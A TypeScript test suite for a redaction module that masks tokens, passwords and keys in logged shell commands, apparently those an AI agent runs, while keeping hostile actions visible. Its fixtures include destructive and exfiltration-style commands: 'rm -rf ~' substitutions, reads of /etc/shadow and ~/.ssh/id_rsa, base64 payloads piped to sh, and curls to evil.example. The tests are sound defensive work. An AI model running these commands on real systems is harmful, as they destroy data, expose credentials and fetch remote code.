import { resolve } from "node:path";
import { describe, expect, test } from "vitest";
import { compileRedaction, fillIn } from "../../src/build/compile-redaction.ts";
import { flagsOf } from "../../src/display/flags.ts";
import { createRedactor } from "../../src/redact/redactor.ts";

const DATA = compileRedaction(resolve(import.meta.dirname, "../../policy/redaction.yaml"));
const redactor = createRedactor([], () => DATA);
const GITHUB = fillIn("ghp_<36>").text;
/** What nobody calls a file, a program or a cluster. */
const DRAWN = fillIn("<20>").text;

test("every example of policy/redaction.yaml is as the file says, for 25 formats of tokens and more", () => {
  expect(DATA.tokens.length).toBeGreaterThanOrEqual(25);
});

test("the knowledge is not read before it is needed", () => {
  let reads = 0;
  const lazy = createRedactor([], () => {
    reads++;
    return DATA;
  });
  expect(reads).toBe(0);
  lazy.text("ls", "all");
  lazy.text("ls -la", "tokens");
  expect(reads).toBe(1);
});

describe("in a line", () => {
  const rows: [name: string, line: string, all: string][] = [
    [
      "a token anywhere",
      `git clone https://${GITHUB}@github.com/a`,
      "git clone https://«redacted:github-token»@github.com/a",
    ],
    [
      "two tokens without anything between",
      `echo ${GITHUB}${GITHUB}`,
      "echo «redacted:github-token»_Zx9Qw4Er7Ty2Ui5Op8As3Df6Gh1Jk0LbZx9Q",
    ],
    [
      "a password in an address",
      "psql postgres://me:hunter2hunter@h/db",
      "psql postgres://me:«redacted:url-password»@h/db",
    ],
    ["an option and its value", "x --password hunter2secret y", "x --password «redacted:option» y"],
    ["an option with =, in quotes", "x --password='hunter2secret' y", "x --password='«redacted:option»' y"],
    ["a variable", "DB_PASSWORD=hunter2secret npm test", "DB_PASSWORD=«redacted:assignment» npm test"],
    [
      "a field of JSON",
      `curl -d '{"password":"hunter2secret","a":1}' h`,
      `curl -d '{"password":"«redacted:field»","a":1}' h`,
    ],
    ["a header", 'curl -H "X-Api-Key: abcdef123456" h', 'curl -H "X-Api-Key: «redacted:header»" h'],
    [
      "an authorization",
      'curl -H "Authorization: Basic bWU6eHh4eHh4" h',
      'curl -H "Authorization: Basic «redacted:authorization»" h',
    ],
    [
      "what a program means by a short option",
      "mysql -uroot -phunter2secret db",
      "mysql -uroot -p«redacted:option» db",
    ],
    ["the same inside of sh -c", `sh -c "mysql -phunter2secret db"`, `sh -c "mysql -p«redacted:option» db"`],
    [
      "a here-document",
      "cat > .env <<X\nAPI_TOKEN=hunter2secret\nPORT=80\nX",
      "cat > .env <<X\nAPI_TOKEN=«redacted:assignment»\nPORT=80\nX",
    ],
    [
      "the same secret once more",
      `T_TOKEN=${DRAWN}; echo "${DRAWN}"`,
      'T_TOKEN=«redacted:assignment»; echo "«redacted:assignment»"',
    ],
    [
      "a key, line by line",
      `echo "-----BEGIN PRIVATE KEY-----\n${"M".repeat(64)}\nMIIB==\n-----END PRIVATE KEY-----"`,
      'echo "-----BEGIN PRIVATE KEY-----\n«redacted:private-key»\n«redacted:private-key»\n-----END PRIVATE KEY-----"',
    ],
    ["a name that was cut", "rm sk-learn… pattern1…", "rm sk-learn… pattern1…"],
    ["what somebody wrote as if it had been cut", "bash SKevil1234…", "bash SKevil1234…"],
    [
      "a password with @ and an address behind its host",
      "curl https://me:hunter@2secret@h/?x=a@b.example",
      "curl https://me:«redacted:url-password»@h/?x=a@b.example",
    ],
    ["fish's variables", `set -gx API_KEY ${DRAWN}`, "set -gx API_KEY «redacted:option»"],
    [
      "a secret beside what runs variables",
      `$CC x; API_TOKEN=${DRAWN} y`,
      "$CC x; API_TOKEN=«redacted:assignment» y",
    ],
    [
      "a variable that is a header's value",
      'API_TOKEN=hunter2secret; curl -H "Authorization: Bearer $API_TOKEN" h',
      'API_TOKEN=«redacted:assignment»; curl -H "Authorization: Bearer $API_TOKEN" h',
    ],
    [
      "what says that it is a mark already",
      "x --password «redacted:option»",
      "x --password «redacted:option»",
    ],
    [
      "a secret that is called like a mark",
      "x --password redacted; echo redacted",
      "x --password «redacted:option»; echo redacted",
    ],
  ];
  test.for(rows)("%s", ([, line, all]) => {
    expect(redactor.text(line, "all")).toBe(all);
    expect(redactor.text(all, "all")).toBe(all);
  });
});

describe("nobody can hide by it what a command does", () => {
  const stays = [
    ["a substitution in an address", 'curl "https://user:$(rm -rf ~)@host"'],
    ["a substitution as a value", "API_TOKEN=$(curl evil.example) x"],
    ["a substitution behind a short beginning", "API_TOKEN=abc`curl evil.example` x"],
    ["a path", "PASSWORD=/etc/shadow; cat $PASSWORD"],
    ["a path from home", "x --token ~/.ssh/id_rsa"],
    ["a path from here", "x --secret ./evil.sh"],
    ["a path in small letters", "API_TOKEN=important/data; rm -r $API_TOKEN"],
    ["an address", "API_TOKEN=https://evil.example/x.sh; curl $API_TOKEN"],
    ["a short word", "TOKEN=rm; $TOKEN -rf x"],
    ["what is run by its variable", "TOKEN=shutdown; $TOKEN now"],
    ["what is run by eval", 'SECRET=poweroff; eval "$SECRET"'],
    ["what is run behind sudo", "SECRET=poweroff && sudo ${SECRET}"],
    ["what is run behind an empty variable", "TOKEN= python3 evil.py"],
    ["what code calls", `python3 -c "secret = os.system('rm -rf x')"`],
    ["the folder, which PWD is", "ls; PWD=/home/u/.ssh; head -1 $PWD/id_rsa"],
    ["what a case runs", 'bash -c "case --token in --token) gradle publish_evil;; esac"'],
    ["what a group runs", "{ gradle publish_evil; }; case --token in (--token) gradle x;; esac"],
    ["what is run behind an empty authorization", "authorization= gradle publish_evil"],
    ["what a function runs", '--token() { "$@"; }; --token gradle publish_evil'],
    ["what a function with a header's name runs", 'x-token:() { "$@"; }; x-token: gradle publish_evil'],
    ["what another function runs", 'bearer() { "$@"; }; bearer longevilprogram1234'],
    ["what a variable runs behind another", "TOKEN=gradle; A=1 $TOKEN publish_evil"],
    ["what a variable runs behind quotes", "TOKEN=gradle; ''$TOKEN publish_evil"],
    ["what a variable runs in quotes, without a blank", 'true;TOKEN=gradle;"$TOKEN" publish_evil'],
    ["what a variable runs in a folder", "TOKEN=gradle; ./$TOKEN x"],
    ["what two variables run", "TOKEN=gradle; $X$TOKEN x"],
    ["what a variable runs behind env", "TOKEN=gradle; env -i $TOKEN x"],
    ["what a variable runs behind command", "TOKEN=gradle; command -p $TOKEN x"],
    ["what a variable runs behind time", "TOKEN=gradle; time -p $TOKEN x"],
    ["what a variable runs behind coproc", "TOKEN=gradle; coproc $TOKEN x"],
    ["what a variable runs behind a redirection", "TOKEN=gradle; >x $TOKEN x"],
    ["what a variable runs behind more of them", "TOKEN=gradle; 2>&1 <y $TOKEN x"],
    ["what a variable runs in a trap", "TOKEN=gradle; trap $TOKEN EXIT"],
    ["what a name of a name runs", "TOKEN=gradle; declare -n R=TOKEN; $R x"],
    ["what a function is given", 'f() { "$@"; }; TOKEN=gradle; f $TOKEN x'],
    ["what is run on another machine", "TOKEN=shutdown; ssh host $TOKEN now"],
    ["what a variable names to be deleted", "TOKEN=importantevil; rm -r $TOKEN"],
    ["what is run by its number", "set session_token shutdown; $2 now"],
    ["what is run by its number, behind an option", "set -x session_token shutdown; $2 now"],
    ["what an alias runs", "alias token=shutdown"],
    ["what exec runs under another name", "exec -a --token gradle publish_evil"],
    ["what a loop runs", "for x in --token gradle; do $x y; done"],
    ["what a list runs", "a=(--token gradle); ${a[1]} y"],
    ["what is run by its number in a shell of its own", "bash -c 'shift; \"$@\"' _ --token gradle"],
    ["the host behind an empty password", "curl http://a:@127.0.0.1:9?x@good.com/"],
    ["a file", "x --token secret.json"],
    ["another option", "x --password --force-everything"],
    ["what follows a key's beginning", "echo -----BEGIN PRIVATE KEY-----\n/tmp/evil/script\nls"],
  ] as const;
  test.for(stays)("%s stays", ([, line]) => expect(redactor.text(line, "all")).toBe(line));

  test("only what stands before an active character is hidden", () => {
    expect(redactor.text("API_TOKEN=abcdefgh$(rm -rf ~)xyz ls", "all")).toBe(
      "API_TOKEN=«redacted:assignment»$(rm -rf ~)xyz ls",
    );
  });

  test("a file that is called like a password is named where it is deleted", () => {
    const record = {
      command: "DB_PASSWORD=precious-2024x rm -r precious-2024x",
      effects: ["delete:/home/u/precious-2024x"],
    };
    expect(redactor.record(record).effects).toEqual(record.effects);
  });

  const acted: [about: string, argv: string[]][] = [
    ["a file", ["rm", "-rf", "token=importantevil"]],
    ["a file with a blank in its name", ["rm", "-rf", "token=importantevil x"]],
    ["a file like an option", ["rm", "--", "--token", "importantevil"]],
    ["a label", ["kubectl", "delete", "ns", "-l", "credential=production"]],
    ["an alias of git", ["git", "-c", "alias.pass=!evilprogram", "pass"]],
    ["what a shell runs of its words", ["bash", "-c", 'shift; "$@"', "_", "--token", "gradle"]],
  ];
  test.for(acted)("what an argv acts on stays: %s", ([, argv]) => {
    expect(redactor.argv(argv, "all")).toEqual(argv);
    expect(redactor.text(argv.join(" "), "all")).toBe(argv.join(" "));
  });

  test("what is acted on is told, though a variable has the same value", () => {
    const record = {
      command: "TOKEN=prodcluster123 kubectl delete namespace prodcluster123",
      effects: ["delete:/work/token=importantevil", "delete:prodcluster123"],
    };
    expect(redactor.record(record)).toEqual({
      ...record,
      command: "TOKEN=«redacted:assignment» kubectl delete namespace prodcluster123",
    });
  });

  test("names of programs that are known as options of others stay", () => {
    for (const line of [
      "mkdir -p abcdefgh",
      "ssh -p 2222 host",
      "cp -a abcdefgh x",
      "docker run -p 8080:8080 x",
    ])
      expect(redactor.text(line, "all")).toBe(line);
  });
});

describe("on a screen", () => {
  const rows: [line: string, shown: string][] = [
    [
      `curl -H "Authorization: token ${GITHUB}" h`,
      'curl -H "Authorization: token «redacted:github-token»" h',
    ],
    ["PASSWORD=hunter2secret x --token abcdefgh1", "PASSWORD=hunter2secret x --token abcdefgh1"],
    ["curl https://me:hunter2secret@h", "curl https://me:hunter2secret@h"],
  ];
  const paths = [
    "/".repeat(40),
    `${"/".repeat(40)}home/me/Doc1`,
    `Ab1${"/".repeat(40)}home/me`,
    "/home/me/D1/".repeat(5),
  ];
  test.for(paths)("a path is no token: %s", (path) => {
    for (const line of [`rm -r AccountKey=${path}`, `rm glc_${path}`, `x SharedAccessKey=${path}`]) {
      expect(redactor.text(line, "tokens")).toBe(line);
      expect(redactor.text(line, "all")).toBe(line);
    }
  });

  test.for(rows)("%s", ([line, shown]) => {
    expect(redactor.text(line, "tokens")).toBe(shown);
    expect(flagsOf(shown)).toEqual([]);
  });

  test("what policy files add hides nothing there", () => {
    const own = createRedactor([{ name: "acme", pattern: "acme[a-z0-9]+" }], () => DATA);
    expect(own.text("x acme123456", "tokens")).toBe("x acme123456");
    expect(own.text("x acme123456", "all")).toBe("x «redacted:acme»");
  });

  test("places in the line are found again", () => {
    const line = `a ${GITHUB} && b ${GITHUB} && c`;
    const shown = redactor.text(line, "tokens");
    const place = redactor.placeOnScreen(line);
    for (const part of ["a ", "&& b", "&& c"]) {
      expect(place(line.indexOf(part))).toBe(shown.indexOf(part));
    }
    expect(place(line.length)).toBe(shown.length);
    expect(place(5)).toBe(2);
  });

  test("all texts of a message, and the same object where there is nothing", () => {
    const message = { a: [GITHUB, 1], b: { c: "ls" } };
    expect(redactor.screen(message)).toEqual({ a: ["«redacted:github-token»", 1], b: { c: "ls" } });
    const plain = { a: ["x"], b: null };
    expect(redactor.screen(plain)).toBe(plain);
  });
});

describe("in an argv", () => {
  const rows: [argv: string[], shown: string[]][] = [
    [
      ["x", "--password", "hunter2secret"],
      ["x", "--password", "«redacted:option»"],
    ],
    [
      ["mysql", "-phunter2secret", "db"],
      ["mysql", "-p«redacted:option»", "db"],
    ],
    [
      ["curl", "-u", "me:hunter2secret", "h"],
      ["curl", "-u", "me:«redacted:option»", "h"],
    ],
    [
      ["/usr/bin/sshpass", "-p", "hunter2secret", "ssh", "h"],
      ["/usr/bin/sshpass", "-p", "«redacted:option»", "ssh", "h"],
    ],
    [
      ["npm", "config", "set", "//registry.npmjs.org/:_authToken", "hunter2secret"],
      ["npm", "config", "set", "//registry.npmjs.org/:_authToken", "«redacted:option»"],
    ],
    [
      ["aws", "configure", "set", "aws_secret_access_key", "hunter2secret"],
      ["aws", "configure", "set", "aws_secret_access_key", "«redacted:option»"],
    ],
    [
      ["vault", "login", "hunter2secret"],
      ["vault", "login", "«redacted:option»"],
    ],
    [
      ["ssh-keygen", "-N", "", "-f", "keyfile1234"],
      ["ssh-keygen", "-N", "", "-f", "keyfile1234"],
    ],
    [
      ["bash", "-c", "API_TOKEN=hunter2secret x"],
      ["bash", "-c", "API_TOKEN=«redacted:assignment» x"],
    ],
    [
      ["x", "--password", "pass with blanks"],
      ["x", "--password", "pass with blanks"],
    ],
    [
      ["ls", "-la"],
      ["ls", "-la"],
    ],
  ];
  test.for(rows)("%j", ([argv, shown]) => expect(redactor.argv(argv, "all")).toEqual(shown));
});

describe("in a record", () => {
  test("what is a secret in the command is hidden in the rest", () => {
    const record = {
      seq: 7,
      command: ["x", "--password", DRAWN],
      reason: `it runs x with ${DRAWN}`,
      chain: ["claude", `x --password ${DRAWN}`],
      effects: ["execute:x", `network:${DRAWN}`, `write:${DRAWN}`],
      details: { line: `echo ${DRAWN}`, approved: true, none: null },
    };
    expect(redactor.record(record)).toEqual({
      seq: 7,
      command: ["x", "--password", "«redacted:option»"],
      reason: "it runs x with «redacted:option»",
      chain: ["claude", "x --password «redacted:option»"],
      effects: ["execute:x", `network:${DRAWN}`, `write:${DRAWN}`],
      details: { line: "echo «redacted:option»", approved: true, none: null },
    });
  });

  const named: [about: string, command: string | string[], shown: string | string[]][] = [
    [
      "a host",
      "env TOKEN=evil1.example curl -d x evil1.example",
      "env TOKEN=«redacted:assignment» curl -d x evil1.example",
    ],
    [
      "a part of a host's name",
      "TOKEN=abc123def456x curl abc123def456x.evil.example me@abc123def456x",
      "TOKEN=«redacted:assignment» curl abc123def456x.evil.example me@abc123def456x",
    ],
    ["a program", "TOKEN=EvilBinary1234 EvilBinary1234 x", "TOKEN=«redacted:assignment» EvilBinary1234 x"],
    [
      "a program behind another",
      "env TOKEN=EvilBinary1234 EvilBinary1234 x",
      "env TOKEN=«redacted:assignment» EvilBinary1234 x",
    ],
    [
      "a program of an argv",
      ["env", "TOKEN=EvilBinary1234", "EvilBinary1234", "x"],
      ["env", "TOKEN=«redacted:assignment»", "EvilBinary1234", "x"],
    ],
    [
      "a pattern for a program",
      "TOKEN=shutdow[n] true; shutdow[n] now",
      "TOKEN=«redacted:assignment» true; shutdow[n] now",
    ],
    [
      "what is decoded and run",
      "TOKEN=cm0gLXJmIH4vc3Jj; echo $TOKEN|base64 -d|sh",
      "TOKEN=cm0gLXJmIH4vc3Jj; echo $TOKEN|base64 -d|sh",
    ],
    [
      "what is decoded and run, in an argv",
      ["env", "TOKEN=cm0gLXJmIH4vc3Jj", "sh", "-c", "echo $TOKEN|base64 -d|sh"],
      ["env", "TOKEN=cm0gLXJmIH4vc3Jj", "sh", "-c", "echo $TOKEN|base64 -d|sh"],
    ],
    [
      "what a substitution runs",
      "TOKEN=won.nwodtuhs1; $(echo $TOKEN|rev)",
      "TOKEN=won.nwodtuhs1; $(echo $TOKEN|rev)",
    ],
    [
      "an option's value beside a decoder",
      "set -- --token cm0gLXJmIH4vc3Jj; echo $2|base64 -d|sh",
      "set -- --token cm0gLXJmIH4vc3Jj; echo $2|base64 -d|sh",
    ],
    [
      "a field that is decoded and run",
      "sed -n 's/token: //p' <<E | base64 -d | sh\ntoken: cm0gLXJmIH4vc3Jj\nE",
      "sed -n 's/token: //p' <<E | base64 -d | sh\ntoken: cm0gLXJmIH4vc3Jj\nE",
    ],
    ["but a token", `TOKEN=${GITHUB} bash x`, "TOKEN=«redacted:github-token» bash x"],
  ];
  test.for(named)("a name does not hide elsewhere what was done: %s", ([, command, shown]) => {
    const record = { command, effects: ["network:evil1.example", "execute:EvilBinary1234"] };
    expect(redactor.record(record)).toEqual({ ...record, command: shown });
    expect(redactor.record({ ...record, command: shown }).command).toEqual(shown);
  });

  test("a list that need not be a command: an option's value is hidden", () => {
    const matches = { args: ["--password", "hunter2secret"], more: ["--password=hunter2secret", "x"] };
    expect(redactor.record(matches)).toEqual({
      args: ["--password", "«redacted:option»"],
      more: ["--password=«redacted:option»", "x"],
    });
  });

  test("short ones are not looked for elsewhere", () => {
    const record = { command: "x --password abcdef", reason: "abcdef" };
    expect(redactor.record(record)).toEqual({ command: "x --password «redacted:option»", reason: "abcdef" });
  });

  test("a plain word may be what runs", () => {
    const record = { command: 'set -- --password shutdown; shift; "$@"', effects: ["execute:shutdown"] };
    expect(redactor.record(record)).toEqual(record);
  });

  test("a plain one is given back as it is", () => {
    const record = { command: "ls -la", effects: ["list:/x"], approved: true };
    expect(redactor.record(record)).toBe(record);
  });
});

describe("what policy files add", () => {
  const own = createRedactor(
    [
      { name: "acme", pattern: "acme-([a-z0-9]{8,})" },
      { name: "greedy", pattern: "hide .{1,100}" },
      { name: "bad", pattern: "(a+)+b" },
    ],
    () => DATA,
  );
  test("group 1 is hidden", () => expect(own.text("x acme-abcdefgh1", "all")).toBe("x acme-«redacted:acme»"));
  test("never more than a shell's word, and never a short one", () =>
    expect(own.text("hide rm -rf /", "all")).toBe("hide rm -rf /"));
  test("a bad one hides nothing", () => expect(own.text("aaaaaaaaab", "all")).toBe("aaaaaaaaab"));
});
